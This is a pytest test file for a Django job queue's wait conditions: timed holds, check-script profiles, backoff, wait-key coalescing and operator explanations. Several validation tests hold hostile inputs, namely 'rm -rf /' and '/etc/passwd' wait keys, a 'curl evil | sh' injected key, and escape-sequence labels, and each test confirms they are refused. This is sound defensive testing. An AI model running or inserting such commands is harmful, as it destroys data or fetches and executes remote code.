"""Wait conditions against the real store (invariants 16-23), one pickup at a time.

Check executables are real shell scripts written into the test's tmp_path; each appends
a line to its own ``.runs`` file so a test can count how often it really ran.
"""

from __future__ import annotations

import io
import json
import os
import time
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.management import call_command

import durable_jobs as durable
from durable_jobs import db, store, testing
from durable_jobs.console import stats
from durable_jobs.exceptions import InvalidInput
from durable_jobs.models import Job
from durable_jobs.runtime.executor import run_slice
from durable_jobs.runtime.reconciler import Reconciler
from durable_jobs.waits import checks
from durable_jobs.waits.explain import explain_hold
from durable_jobs.waits.gate import CheckSlots
from tests.factories import JobFactory, reload, shift

pytestmark = pytest.mark.django_db

KIND = "tests.waited"


def iso(instant) -> str:
    return (
        instant.astimezone(tz=None).isoformat() if instant.tzinfo is None else instant.isoformat()
    )


class Waits:
    """Declare check scripts for one test and count their runs."""

    def __init__(self, tmp_path: Path, settings) -> None:
        self.dir = tmp_path
        self.settings = settings
        self.base = dict(settings.DURABLE_JOBS)
        self.profiles: dict[str, str] = {}

    def declare(self, **scripts: str) -> None:
        for name, body in scripts.items():
            path = self.dir / f"{name}.sh"
            path.write_text(f"#!/bin/sh\necho run >> '{self.dir}/{name}.runs'\n{body}\n")
            path.chmod(0o755)
            self.profiles[name] = str(path)
        self.configure()

    def configure(self, **overrides) -> None:
        self.base.update(overrides)
        self.settings.DURABLE_JOBS = {**self.base, "WAIT_PROFILES": dict(self.profiles)}

    def runs(self, name: str) -> int:
        path = self.dir / f"{name}.runs"
        return len(path.read_text().splitlines()) if path.exists() else 0


@pytest.fixture
def waits(tmp_path, settings):
    return Waits(tmp_path, settings)


@pytest.fixture
def handled(kinds):
    """A handler that records each run, and a mirror that records each outcome it was told."""
    ran: list = []
    told: list = []
    kinds.add(
        KIND,
        lambda job: ran.append(job.id) or durable.DONE,
        mirror=lambda row, outcome: told.append((row.id, outcome, row.error_code)),
    )
    return ran, told


def outcomes(**kwargs) -> list[str]:
    return [report.outcome for report in testing.run_jobs(**kwargs)]


# --- invariant 16: `after` is one exact reschedule, polling nothing ----------------------


def test_after__an_instant_not_yet_due_is_one_exact_reschedule_that_spends_nothing(handled):
    ran, _ = handled
    instant = (db.database_now() + timedelta(minutes=5)).replace(microsecond=0)
    job = durable.start(KIND, wait_for=[{"after": iso(instant)}])
    assert job.wait_label == f"after {iso(instant)}"
    assert outcomes() == ["held"]
    held = reload(job)
    assert held.status == "pending" and held.lease_owner is None, "a held job holds no lease"
    assert held.next_run_at == instant, "rescheduled to the instant exactly"
    assert held.held_since is not None and held.wait_satisfied_at is None
    assert (
        held.wait_checks,
        held.consecutive_failures,
        held.redrives,
        held.redrives_since_commit,
        held.continuation_seq,
        held.interruptions,
    ) == (0, 0, 0, 0, 0, 0), "the hold spent no budget"
    assert held.started_at is None, "no slice has started"
    assert list(Job.objects.held().values_list("id", flat=True)) == [job.id]
    assert outcomes() == [], "nothing polls it before its instant"
    assert ran == []


def test_after__picked_up_early_it_is_held_again_without_restarting_its_clock(handled):
    instant = (db.database_now() + timedelta(minutes=5)).replace(microsecond=0)
    job = durable.start(KIND, wait_for=[{"after": iso(instant)}])
    assert outcomes() == ["held"]
    first = reload(job)
    testing.fast_forward(job)  # a pickup before the instant (an operator, a skewed scheduler)
    assert outcomes() == ["held"]
    again = reload(job)
    assert again.next_run_at == instant and again.held_since == first.held_since
    assert again.wait_checks == 0 and handled[0] == []


def test_after__once_the_instant_passed_the_job_runs_and_keeps_its_hold_clock(handled):
    ran, _ = handled
    past = iso((db.database_now() - timedelta(seconds=1)).replace(microsecond=0))
    job = JobFactory(kind=KIND, wait_for=[{"after": past}], held_since=-60, next_run_at=0)
    before = reload(job).held_since
    assert outcomes() == ["completed"]
    done = reload(job)
    assert ran == [job.id] and done.wait_satisfied_at is not None and done.held_since == before


def test_after__an_instant_already_past_at_start_runs_at_once_without_a_hold(handled):
    past = iso(db.database_now() - timedelta(days=3))
    job = durable.start(KIND, wait_for=[{"after": past}])
    assert outcomes() == ["completed"]
    assert reload(job).held_since is None and reload(job).wait_satisfied_at is not None


def test_start__an_after_past_the_ceiling_is_refused_by_the_database_clock(handled, settings):
    settings.DURABLE_JOBS = {**settings.DURABLE_JOBS, "WAIT_AFTER_MAX_AHEAD": 3600}
    too_far = iso(db.database_now() + timedelta(hours=2))
    with pytest.raises(InvalidInput) as caught:
        durable.start(KIND, wait_for=[{"after": too_far}])
    assert caught.value.field == "wait_for[0]" and "WAIT_AFTER_MAX_AHEAD" in str(caught.value)
    durable.start(KIND, wait_for=[{"after": iso(db.database_now() + timedelta(minutes=50))}])
    assert Job.objects.count() == 1, "only the start within the ceiling was stored"


@pytest.mark.parametrize(
    ("wait_for", "field"),
    [
        ([{"after": "2026-02-31T09:00:00Z"}], "wait_for[0]"),
        ([{"after": "2026-09-01T24:00:00Z"}], "wait_for[0]"),
        ([{"after": "2026-09-01T09:00:00"}], "wait_for[0]"),
        ([{"profile": "undeclared"}], "wait_for[0]"),
        ([{"after": "2026-09-01T09:00:00Z"}, {"after": "2026-09-02T09:00:00Z"}], "wait_for[1]"),
        ([{"profile": "x"}] * 5, "wait_for"),
    ],
)
def test_start__a_bad_condition_is_refused_naming_it_and_stores_nothing(handled, wait_for, field):
    with pytest.raises(InvalidInput) as caught:
        durable.start(KIND, wait_for=wait_for)
    assert caught.value.field == field
    assert Job.objects.count() == 0


@pytest.mark.parametrize("key", ["ticket 1; rm -rf /", "a/../b", "x?y=1", "/etc/passwd", "-rf"])
def test_start__a_wait_key_outside_its_grammar_is_refused_and_stores_nothing(handled, key):
    before = Job.objects.count()
    with pytest.raises(InvalidInput, match=r"^wait_key: must be 1-200 of ASCII letters"):
        durable.start(KIND, wait_for=[{"after": "2026-01-01T00:00:00Z"}], wait_key=key)
    assert Job.objects.count() == before


def test_gate__a_stored_wait_key_outside_the_grammar_is_never_handed_to_a_check(handled, waits):
    ran, told = handled
    waits.declare(ready="exit 0")
    job = durable.start(KIND, wait_for=[{"profile": "ready"}], wait_key="ticket:1")
    from django.db import connection

    with connection.cursor() as cursor:  # stored by hand, or by an older version
        cursor.execute(
            "UPDATE durable_jobs_job SET wait_key = %s WHERE id = %s",
            ["ticket:1; curl evil | sh", job.id],
        )

    assert outcomes() == ["failed"]
    failed = reload(job)
    assert failed.error_code == "wait_unreadable" and "wait-key grammar" in failed.error_message
    assert waits.runs("ready") == 0 and ran == []


def test_start__a_wait_key_needs_a_wait_and_start_many_refuses_waits(handled):
    with pytest.raises(InvalidInput, match="wait_key"):
        durable.start(KIND, wait_key="ticket:1")
    with pytest.raises(InvalidInput, match="start\\(\\)"):
        durable.start_many([{"kind": KIND, "wait_for": [{"after": "2026-01-01T00:00:00Z"}]}])
    assert Job.objects.count() == 0


# --- tier 2: real check executables ----------------------------------------------------


def test_profile__go_clears_the_wait_and_the_handler_runs(handled, waits):
    ran, _ = handled
    waits.declare(ready="exit 0")
    job = durable.start(KIND, wait_for=[{"profile": "ready"}])
    assert outcomes() == ["completed"]
    done = reload(job)
    assert ran == [job.id] and done.wait_checks == 1 and done.wait_satisfied_at is not None
    assert done.held_since is None, "cleared at its first pickup: never held"


def test_profile__not_yet_holds_until_the_next_check_by_the_backoff_floor(handled, waits):
    waits.declare(later="exit 75")
    job = durable.start(KIND, wait_for=[{"profile": "later"}])
    assert outcomes() == ["held"]
    held = reload(job)
    due_in = (held.next_run_at - db.database_now()).total_seconds()
    assert 25 < due_in <= 30, "the first check of a hold waits the (floored) base"
    assert (held.status, held.lease_owner, held.wait_checks, held.wait_faults) == (
        "pending",
        None,
        1,
        0,
    )
    assert handled[0] == [] and waits.runs("later") == 1


def test_profile__conditions_are_a_conjunction_checked_in_the_order_written(handled, waits):
    waits.declare(first="exit 0", second="exit 75", third="exit 0")
    job = durable.start(
        KIND, wait_for=[{"profile": "first"}, {"profile": "second"}, {"profile": "third"}]
    )
    assert outcomes() == ["held"]
    assert (waits.runs("first"), waits.runs("second"), waits.runs("third")) == (1, 1, 0)
    assert reload(job).wait_checks == 2


def test_profile__never_fails_the_job_with_its_own_code_through_the_mirror(handled, waits):
    ran, told = handled
    waits.declare(doomed="exit 65")
    job = durable.start(KIND, wait_for=[{"profile": "doomed"}])
    assert outcomes() == ["failed"]
    failed = reload(job)
    assert (failed.status, failed.error_code, failed.error_class) == (
        "failed",
        "wait_never",
        "terminal",
    )
    assert "'doomed'" in failed.error_message
    assert ran == [] and told == [(job.id, "failed", "wait_never")]


def test_profile__cannot_tell_counts_consecutive_faults_then_fails(handled, waits):
    waits.declare(broken="exit 1")
    waits.configure(WAIT_MAX_FAULTS=2)
    job = durable.start(KIND, wait_for=[{"profile": "broken"}])
    assert outcomes() == ["held"]
    assert reload(job).wait_faults == 1
    testing.fast_forward(job)
    assert outcomes() == ["failed"]
    failed = reload(job)
    assert (failed.error_code, failed.wait_faults, failed.wait_checks) == (
        "wait_faults_exhausted",
        2,
        2,
    )
    assert handled[0] == []


def test_profile__an_answer_resets_the_fault_streak(handled, waits):
    flag = waits.dir / "answers"
    waits.declare(flaky=f"if [ -f '{flag}' ]; then exit 75; else exit 1; fi")
    waits.configure(WAIT_MAX_FAULTS=2)
    job = durable.start(KIND, wait_for=[{"profile": "flaky"}])
    assert outcomes() == ["held"] and reload(job).wait_faults == 1
    flag.touch()
    testing.fast_forward(job)
    assert outcomes() == ["held"] and reload(job).wait_faults == 0
    flag.unlink()
    testing.fast_forward(job)
    assert outcomes() == ["held"] and reload(job).wait_faults == 1, (
        "a check that works after an outage has no debt"
    )


def test_profile__a_hanging_check_and_its_children_are_killed_at_the_timeout(handled, waits):
    pidfile = waits.dir / "grandchild.pid"
    waits.declare(hangs=f"sleep 300 &\necho $! > '{pidfile}'\nsleep 300")
    waits.configure(WAIT_CHECK_TIMEOUT=0.5)
    job = durable.start(KIND, wait_for=[{"profile": "hangs"}])
    assert outcomes() == ["held"]
    held = reload(job)
    assert held.wait_faults == 1, "a timeout is 'cannot tell'"
    grandchild = int(pidfile.read_text())
    assert not _alive(grandchild), "the check's whole process group was killed"


def test_check__megabytes_of_output_are_read_and_capped_not_a_hang(waits):
    waits.declare(chatty="head -c 5000000 /dev/zero\nexit 75")
    answer = checks.run(
        waits.profiles["chatty"], env=dict(checks.BASE_ENVIRONMENT), timeout=20, output_cap=1000
    )
    assert answer.answer == checks.NOT_YET
    assert len(answer.output) == 1000 and answer.output_bytes == 5_000_000


def test_check__the_environment_is_minimal_and_never_the_workers(handled, waits, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", "postgresql://leaked:secret@db/prod")
    monkeypatch.setenv("SECRET_KEY", "do-not-leak")
    dump = waits.dir / "env.txt"
    waits.declare(
        nosy=f'env > \'{dump}\'\n[ -z "$DATABASE_URL" ] && [ -z "$SECRET_KEY" ] && exit 0\nexit 65'
    )
    job = durable.start(KIND, wait_for=[{"profile": "nosy"}], wait_key="ticket:42")
    assert outcomes() == ["completed"], "the check saw neither DATABASE_URL nor SECRET_KEY"
    env = dict(line.split("=", 1) for line in dump.read_text().splitlines())
    assert "leaked" not in dump.read_text() and "do-not-leak" not in dump.read_text()
    assert env["DURABLE_JOB_ID"] == str(job.id) and env["DURABLE_JOB_KIND"] == KIND
    assert env["DURABLE_WAIT_PROFILE"] == "nosy" and env["DURABLE_WAIT_KEY"] == "ticket:42"
    assert set(env) - {"PWD", "SHLVL", "_"} <= {
        *checks.BASE_ENVIRONMENT,
        "DURABLE_JOB_ID",
        "DURABLE_JOB_KIND",
        "DURABLE_JOB_TENANT",
        "DURABLE_WAIT_PROFILE",
        "DURABLE_WAIT_CHECKS",
        "DURABLE_WAIT_KEY",
    }


def test_check__a_missing_or_unexecutable_check_cannot_tell(waits):
    waits.declare(present="exit 0")
    os.chmod(waits.profiles["present"], 0o644)
    assert (
        checks.run(waits.profiles["present"], env={}, timeout=5, output_cap=10).answer
        == checks.CANNOT_TELL
    )
    assert (
        checks.run("/nonexistent/check", env={}, timeout=5, output_cap=10).answer
        == checks.CANNOT_TELL
    )


def test_profile__a_hold_past_its_maximum_fails_without_running_the_check(handled, waits):
    waits.declare(later="exit 75")
    waits.configure(WAIT_MAX_HOLD=3600)
    job = JobFactory(
        kind=KIND, wait_for=[{"profile": "later"}], held_since=-3700, next_run_at=0, wait_checks=7
    )
    assert outcomes() == ["failed"]
    failed = reload(job)
    assert failed.error_code == "wait_max_hold" and waits.runs("later") == 0 and handled[0] == []


def test_profile__a_profile_not_declared_on_this_worker_cannot_tell(handled, waits):
    job = JobFactory(kind=KIND, wait_for=[{"profile": "declared-elsewhere"}])
    assert outcomes() == ["held"]
    assert reload(job).wait_faults == 1 and handled[0] == []


# --- invariant 19: unreadable is not satisfied ------------------------------------------


@pytest.mark.parametrize(
    "stored",
    [
        [{"until": "2026-09-01T09:00:00Z"}],
        [{"after": "2026-02-31T09:00:00Z"}],
        [{"after": "2020-09-01T09:00:00Z"}, {"after": "2020-09-02T09:00:00Z"}],
        [{"profile": "two words"}],
    ],
)
def test_unreadable__a_condition_this_version_cannot_read_fails_the_job_never_runs_it(
    handled, stored
):
    ran, told = handled
    job = JobFactory(kind=KIND, wait_for=stored)
    assert outcomes() == ["failed"]
    failed = reload(job)
    assert (failed.status, failed.error_code) == ("failed", "wait_unreadable")
    assert ran == [] and told == [(job.id, "failed", "wait_unreadable")]


# --- invariants 17 and 18: the hold clock and the backoff survive a restart -----------


def test_hold_clock__starts_once_and_the_backoff_grows_from_it_across_pickups(handled, waits):
    waits.declare(later="exit 75")
    job = durable.start(KIND, wait_for=[{"profile": "later"}])
    assert outcomes() == ["held"]
    since = reload(job).held_since
    assert since > reload(job).created_at, "the hold clock is not the enqueue time"
    # Ten base periods (30 s) of hold have passed, as a restarted worker would find it.
    shift(job.id, "held_since", -300)
    testing.fast_forward(job)
    assert outcomes() == ["held"]
    again = reload(job)
    assert again.held_since == since - timedelta(seconds=300), (
        "held_since is written once, never reset"
    )
    due_in = (again.next_run_at - db.database_now()).total_seconds()
    assert 55 < due_in <= 60, "the cadence doubled after ten base periods held"
    assert again.wait_checks == 2


def test_hold__an_hourly_base_stays_hourly(handled, waits):
    waits.declare(later="exit 75")
    waits.configure(WAIT_CHECK_INTERVAL=3600)
    job = durable.start(KIND, wait_for=[{"profile": "later"}])
    assert outcomes() == ["held"]
    due_in = (reload(job).next_run_at - db.database_now()).total_seconds()
    assert 3590 < due_in <= 3600


def test_hold__is_neither_an_orphan_nor_stale_to_the_reconciler(handled, waits):
    waits.declare(later="exit 75")
    job = durable.start(KIND, wait_for=[{"profile": "later"}])
    assert outcomes() == ["held"]
    shift(job.id, "pending_since", -10 * 3600)
    before = reload(job)
    Reconciler().run_pass()
    after = reload(job)
    assert (after.status, after.redrives, after.lease_epoch, after.next_run_at) == (
        "pending",
        0,
        before.lease_epoch,
        before.next_run_at,
    )
    assert store.count_stale_pending(pending_ttl_ms=1000) == 0


# --- cancel of a held job ----------------------------------------------------------------


def test_cancel__a_held_job_ends_at_the_reconcilers_next_pass_not_its_next_check(handled, waits):
    ran, told = handled
    waits.declare(later="exit 75")
    waits.configure(WAIT_CHECK_INTERVAL=3600)
    job = durable.start(KIND, wait_for=[{"profile": "later"}])
    assert outcomes() == ["held"]
    durable.cancel(job.id, by="operator")
    assert outcomes() == [], "a cancel-requested job is not picked up for another check"
    Reconciler().run_pass()
    cancelled = reload(job)
    assert cancelled.status == "cancelled" and cancelled.next_run_at is None
    assert waits.runs("later") == 1 and ran == [] and told == [(job.id, "cancelled", None)]
    assert not Job.objects.held().exists()


# --- invariant 22: one hold per target ---------------------------------------------------


def test_coalesce__a_second_start_for_a_held_target_returns_the_holder(handled, waits, kinds):
    kinds.add("tests.other_kind")
    waits.declare(later="exit 75")
    first = durable.start(KIND, wait_for=[{"profile": "later"}], wait_key="ticket:7")
    assert first.coalesced is False
    assert outcomes() == ["held"]
    second = durable.start(
        KIND, wait_for=[{"profile": "later"}], wait_key="ticket:7", input={"other": 1}
    )
    assert second.id == first.id and second.coalesced is True
    assert Job.objects.count() == 1
    other_scope = durable.start(
        KIND, wait_for=[{"profile": "later"}], wait_key="ticket:7", scope=("default", "org")
    )
    assert other_scope.id != first.id and not other_scope.coalesced, "a key is per scope"
    with pytest.raises(InvalidInput, match="wait_key"):
        durable.start("tests.other_kind", wait_for=[{"profile": "later"}], wait_key="ticket:7")


def test_coalesce__a_target_cleared_a_moment_ago_does_not_start_a_second_run(handled, waits):
    waits.declare(ready="exit 0")
    first = durable.start(KIND, wait_for=[{"profile": "ready"}], wait_key="deploy:9")
    assert outcomes() == ["completed"]
    sibling = durable.start(KIND, wait_for=[{"profile": "ready"}], wait_key="deploy:9")
    assert sibling.id == first.id and sibling.coalesced, (
        "cleared and ran moments ago: the same intent"
    )
    assert outcomes() == [] and handled[0] == [first.id]
    shift_satisfied(first.id, -16 * 60)  # past the window (the backoff ceiling, 15 min)
    later = durable.start(KIND, wait_for=[{"profile": "ready"}], wait_key="deploy:9")
    assert later.id != first.id and not later.coalesced, "long after, a start is a new intent"


def test_coalesce__a_failed_holder_does_not_swallow_the_next_start(handled, waits):
    waits.declare(doomed="exit 65")
    first = durable.start(KIND, wait_for=[{"profile": "doomed"}], wait_key="t:1")
    assert outcomes() == ["failed"]
    again = durable.start(KIND, wait_for=[{"profile": "doomed"}], wait_key="t:1")
    assert again.id != first.id and not again.coalesced


def shift_satisfied(job_id, seconds: float) -> None:
    from django.db import connection

    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE durable_jobs_job"
            " SET wait_satisfied_at = wait_satisfied_at + %s * interval '1 second'"
            " WHERE id = %s",
            [seconds, job_id],
        )


# --- capacity bound -------------------------------------------------------------------------


def test_capacity__a_pickup_denied_a_check_turn_is_held_shortly_and_counted(handled, waits):
    waits.declare(ready="exit 0")
    job = durable.start(KIND, wait_for=[{"profile": "ready"}])
    slots = CheckSlots(1)
    assert slots.try_take()  # another job's check holds the only turn
    claimed = store.dequeue(["default"], "w", 60_000, kinds=None)
    assert run_slice(claimed[0], check_slots=slots).outcome == "held"
    denied = reload(job)
    assert (denied.wait_denials, denied.wait_checks, waits.runs("ready")) == (1, 0, 0)
    due_in = (denied.next_run_at - db.database_now()).total_seconds()
    assert 0 < due_in <= 5
    assert "Denied a check turn 1 time(s)" in explain_hold(denied).summary
    slots.give_back()
    testing.fast_forward(job)
    claimed = store.dequeue(["default"], "w", 60_000, kinds=None)
    assert run_slice(claimed[0], check_slots=slots).outcome == "completed"
    assert reload(job).wait_denials == 0


# --- operators see holds -----------------------------------------------------------------


def test_explain_stats_and_cli__say_what_a_held_job_waits_for(handled, waits):
    waits.declare(later="exit 75")
    instant = db.database_now() - timedelta(seconds=5)
    job = durable.start(KIND, wait_for=[{"after": iso(instant)}, {"profile": "later"}])
    plain = durable.start(KIND)
    assert explain_hold(reload(job)) is None, "not held before its first pickup"
    testing.run_jobs()
    held = reload(job)
    explanation = explain_hold(held)
    assert explanation.label == f"after {iso(instant)} + later"
    assert (
        explanation.checks == 1 and explanation.faults == 0 and explanation.profiles == ("later",)
    )
    assert explanation.next_check == held.next_run_at and not explanation.waiting_on_instant
    assert "Waiting for after" in explanation.summary and "Next check" in explanation.summary
    assert explain_hold(reload(plain)) is None
    assert stats.collect()["held"] == 1
    out = io.StringIO()
    call_command("durable_jobs", "explain", str(job.id), stdout=out)
    assert "held" in out.getvalue() and "later" in out.getvalue()
    out = io.StringIO()
    call_command("durable_jobs", "explain", str(job.id), "--json", stdout=out)
    data = json.loads(out.getvalue())
    assert data["held"]["checks"] == 1 and data["held"]["profiles"] == ["later"]
    out = io.StringIO()
    call_command("durable_jobs", "stats", stdout=out)
    assert "held by a wait condition: 1" in out.getvalue()


def test_explain__shows_only_validated_bytes(handled):
    job = JobFactory(
        kind=KIND,
        wait_for=[{"profile": "ok"}, {"profile": "evil\nline\x1b[31m"}],
        wait_label="forged\nlabel",
        held_since=-10,
        next_run_at=60,
    )
    explanation = explain_hold(reload(job))
    assert explanation.label == "ok" and "forged" not in explanation.summary
    assert "\n" not in explanation.summary and "\x1b" not in explanation.summary
    assert explanation.unreadable == 1


def _alive(pid: int) -> bool:
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            return False
        if state == "Z":
            return False
        time.sleep(0.05)
    return True


@pytest.mark.django_db(transaction=True)
def test_coalesce__two_concurrent_starts_for_one_target_make_one_job(handled, waits):
    """The unique index, not a read-then-write, decides: the second start's insert waits for
    the first transaction, then finds its job and coalesces onto it."""
    import threading

    from django.db import connections, transaction

    waits.declare(later="exit 75")
    inserted, release = threading.Event(), threading.Event()
    results: dict[str, object] = {}

    def first() -> None:
        try:
            with transaction.atomic():
                results["first"] = durable.start(
                    KIND, wait_for=[{"profile": "later"}], wait_key="pr:5"
                )
                inserted.set()
                release.wait(10)  # hold the transaction open while the second start races in
        finally:
            connections.close_all()

    def second() -> None:
        try:
            inserted.wait(10)
            # Neither start's lookup can see the other's uncommitted row: only the index
            # can stop this one.
            results["second"] = durable.start(
                KIND, wait_for=[{"profile": "later"}], wait_key="pr:5"
            )
        except Exception as error:  # noqa: BLE001 - reported below
            results["second"] = error
        finally:
            connections.close_all()

    threads = [threading.Thread(target=first), threading.Thread(target=second)]
    for thread in threads:
        thread.start()
    inserted.wait(10)
    time.sleep(0.3)  # the second start is now blocked on the index, behind the first transaction
    assert "second" not in results, "the second start waits for the first transaction"
    release.set()
    for thread in threads:
        thread.join(15)
    first_job, second_job = results["first"], results["second"]
    assert not isinstance(second_job, Exception), second_job
    assert second_job.id == first_job.id and second_job.coalesced and not first_job.coalesced
    assert Job.objects.filter(wait_key="pr:5").count() == 1


def test_redrive__a_failed_wait_job_whose_key_is_held_again_is_refused_clearly(handled, waits):
    from durable_jobs.exceptions import WaitKeyHeld

    waits.declare(doomed="exit 65", later="exit 75")
    failed = durable.start(KIND, wait_for=[{"profile": "doomed"}], wait_key="t:9")
    assert outcomes() == ["failed"]
    holder = durable.start(KIND, wait_for=[{"profile": "later"}], wait_key="t:9")
    with pytest.raises(WaitKeyHeld) as caught:
        durable.redrive(failed.id)
    assert caught.value.holder_id == holder.id
    assert reload(failed).status == "failed", "nothing changed"


def test_redrive__a_wait_whose_faults_ran_out_gets_a_fresh_fault_budget(handled, waits):
    waits.declare(broken="exit 1")
    waits.configure(WAIT_MAX_FAULTS=2)
    job = durable.start(KIND, wait_for=[{"profile": "broken"}])
    assert outcomes() == ["held"]
    since = reload(job).held_since
    testing.fast_forward(job)
    assert outcomes() == ["failed"] and reload(job).error_code == "wait_faults_exhausted"
    durable.redrive(job.id)
    assert reload(job).wait_faults == 0, "an operator's re-drive resets budgets (invariant 13)"
    waits.declare(broken="exit 75")  # the check was fixed
    assert outcomes() == ["held"]
    again = reload(job)
    assert (again.wait_faults, again.held_since) == (0, since), (
        "the hold clock is kept: written once"
    )
